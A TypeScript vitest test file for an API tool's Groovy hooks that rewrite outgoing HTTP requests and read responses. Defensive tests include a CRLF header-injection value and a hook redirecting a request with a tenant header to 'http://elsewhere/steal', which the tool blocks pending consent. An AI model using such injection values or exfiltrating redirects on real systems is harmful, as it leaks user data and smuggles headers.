import { expect, test } from 'vitest';
import { createEngine, defaultScanOptions, type EndpointId } from '../../engine.ts';
import type { HttpRequest } from '../../request/http-request.ts';
import { memoryFiles } from '../../testing/memory-files.ts';
import type { HttpExchange } from '../http/http-exchange.ts';
import type { Consent, MovedRequest } from '../moved-request.ts';
import { withText } from '../received-body.ts';
import { sendWithHooks } from './send-with-hooks.ts';

const source = `package shop; import org.springframework.web.bind.annotation.*;
  @RestController class Orders { @PostMapping("/orders") void add() {} @GetMapping("/orders") void all() {} }`;

const add = 'p:shop.Orders#add()' as EndpointId;
const request: HttpRequest = {
  kind: 'http',
  method: 'POST',
  url: 'http://localhost:8080/orders?page=1',
  headers: [['Accept', '*/*']],
  body: { kind: 'text', text: '{"id": 7}' },
};

function engineWith(rules: string) {
  const engine = createEngine(memoryFiles({ '/p/.easy.api.config': rules, '/p/Orders.java': source }));
  const observer = { onProgress() {}, onFindings() {}, isCancelled: () => false };
  engine.scan({ roots: ['/p'], base: '/p', options: defaultScanOptions }, observer);
  return engine;
}

test('a script reads the request and changes what is sent', () => {
  const rules = `http.call.before=groovy:\`\`\`
logger.info(request.url() + " " + request.method() + " " + request.body().id)
request.setHeader("Authorization", "Bearer " + request.headers().size())
request.removeHeader("accept")
request.setQuery("page", 2)
request.addQuery("q", "a b")
request.setBody('{"id": 8}')
\`\`\``;
  expect(engineWith(rules).beforeCall(add, request)).toEqual({
    request: {
      ...request,
      url: 'http://localhost:8080/orders?page=2&q=a%20b',
      headers: [['Authorization', 'Bearer 1']],
      body: { kind: 'text', text: '{"id": 8}' },
    },
    log: [{ level: 'info', message: 'http://localhost:8080/orders?page=1 POST 7' }],
    problems: [],
  });
});

test('hooks may be for some handlers only, and endpoints without hooks cost nothing', () => {
  const engine = engineWith('http.call.before[#regex:#all]=groovy:request.setHeader("X", "1")');
  expect(engine.beforeCall(add, request)?.request).toEqual(request);
  expect(engine.afterCall(add, request, { status: 200, headers: [], body: '' })).toBeUndefined();
});

test('a script that fails is told with its line, and the request stays', () => {
  const rules = '# hooks\nhttp.call.before=groovy:request.nothing()\nhttp.call.before=groovy:while (true) {}';
  const outcome = engineWith(rules).beforeCall(add, request);
  expect(outcome?.request).toEqual(request);
  expect(outcome?.problems).toMatchObject([
    { message: expect.stringContaining('nothing'), from: { file: '.easy.api.config', line: 2 } },
    { message: expect.stringMatching(/took (?:longer|more)/), from: { line: 3 } },
  ]);
});

test('headers that would break out of their line are left out', () => {
  const engine = engineWith('http.call.before=groovy:request.setHeader("X", "a\\r\\nEvil: 1")');
  expect(engine.beforeCall(add, request)?.request.headers).toEqual(request.headers);
});

test('a script reads the answer, as text and as JSON', () => {
  const rules =
    'http.call.after=groovy:logger.warn(response.code() + " " + response.firstHeader("x-id") + " " + response.body().token + " " + response.request().url())';
  const answer = { status: 401, headers: [['X-Id', '5']] as const, body: '{"token": "t"}' };
  expect(engineWith(rules).afterCall(add, request, answer)).toEqual({
    isDiscarded: false,
    log: [{ level: 'warn', message: `401 5 t ${request.url}` }],
    problems: [],
  });
});

test('what one hook keeps in the session, the next one finds', () => {
  const engine = engineWith(`http.call.after=groovy:session.set("token", response.body().token)
http.call.before=groovy:request.setHeader("X-Token", session.get("token") ?: "none")`);
  const token = () => engine.beforeCall(add, request)?.request.headers.at(-1);
  expect(token()).toEqual(['X-Token', 'none']);
  engine.afterCall(add, request, { status: 200, headers: [], body: '{"token": "t1"}' });
  expect(token()).toEqual(['X-Token', 't1']);
});

test('a discarded answer has the request sent again, three times at most', async () => {
  const engine = engineWith('http.call.after=groovy:if (response.code() == 401) response.discard()');
  const statuses: number[] = [];
  const exchange = async (status: number) => {
    let sent = 0;
    const { exchange: last } = await sendWithHooks(
      request,
      {
        before: async (each) => engine.beforeCall(add, each),
        after: async (each, answer) => engine.afterCall(add, each, withText(answer, decodeNothing)),
      },
      async () => {
        sent++;
        return response(status);
      },
      askNobody,
    );
    statuses.push(last.kind === 'response' ? last.status : 0);
    return sent;
  };
  expect(await exchange(200)).toBe(1);
  expect(await exchange(401)).toBe(4);
  expect(statuses).toEqual([200, 401]);
});

test('a body becomes text where a rule reads it, and nowhere else', async () => {
  const decoded = async (rules: string) => {
    let times = 0;
    const decode = (bytes: Uint8Array) => {
      times++;
      return String.fromCharCode(...bytes);
    };
    const { log } = await sendWithHooks(
      request,
      {
        before: async () => undefined,
        after: async (each, answer) => engineWith(rules).afterCall(add, each, withText(answer, decode)),
      },
      async () => response(200, '{"id": "ä"}'),
      askNobody,
    );
    return { times, said: log.map(({ message }) => message) };
  };
  expect(await decoded('http.call.after=groovy:logger.info(response.body().id)')).toEqual({
    times: 1,
    said: ['ä'],
  });
  expect(await decoded('http.call.before=groovy:logger.info("before")')).toEqual({ times: 0, said: [] });
});

test('a request that fails has no answer to look at', async () => {
  const failure: HttpExchange = { kind: 'failure', reason: 'refused', message: 'no', redirects: [] };
  const engine = engineWith('http.call.after=groovy:logger.info("never")');
  const hooked = await sendWithHooks(
    request,
    {
      before: async (each) => engine.beforeCall(add, each),
      after: async (each, answer) => engine.afterCall(add, each, withText(answer, decodeNothing)),
    },
    async () => failure,
    askNobody,
  );
  expect(hooked).toEqual({ request, exchange: failure, log: [], problems: [] });
});

test('a rule that moves a request is named with its line, and one that fails has moved nothing', async () => {
  const rules = `# moves
http.call.before=groovy:request.setHeader("X", "1")
http.call.before=groovy:request.setUrl("http://elsewhere/steal?x=1")
http.call.before=groovy:request.setQuery("y", "2")
`;
  const engine = engineWith(rules);
  const asked: MovedRequest[] = [];
  const sent: string[] = [];
  const hooks = {
    before: async (each: HttpRequest) => engine.beforeCall(add, each),
    after: async () => undefined,
  };
  const secret: HttpRequest = { ...request, headers: [...request.headers, ['X-Tenant', '7']] };
  const attempt = (consent: Consent) =>
    sendWithHooks(
      secret,
      hooks,
      async ({ url }) => {
        sent.push(url);
        return response(200);
      },
      async (move) => {
        asked.push(move);
        return consent;
      },
    );
  const refused = await attempt({ kind: 'refused', advice: 'Ask me.' });
  expect(sent).toEqual([]);
  expect(refused.request).toEqual(secret);
  expect(refused.exchange).toMatchObject({
    kind: 'failure',
    reason: 'not-allowed',
    message:
      'The rule http.call.before in .easy.api.config:3 moves this request from http://localhost:8080 to http://elsewhere:80. ' +
      'X-Tenant, X, the parameters of the query and the body would go there. Nothing was sent. Ask me.',
  });
  await attempt({ kind: 'given' });
  expect(sent).toEqual(['http://elsewhere/steal?x=1&y=2']);
  expect(asked).toHaveLength(2);
});

const askNobody = async (): Promise<Consent> => {
  throw new Error('Nothing was moved, so that nobody is asked.');
};

const decodeNothing = () => '';

function response(status: number, text = ''): HttpExchange {
  return {
    kind: 'response',
    method: 'POST',
    url: request.url,
    status,
    statusText: '',
    httpVersion: '1.1',
    headers: [],
    body: Uint8Array.from(text, (each) => each.charCodeAt(0)),
    size: { encoded: 0, decoded: 0 },
    timing: { firstByteMs: 1, totalMs: 1 },
    redirects: [],
    isCertificateVerified: true,
  };
}
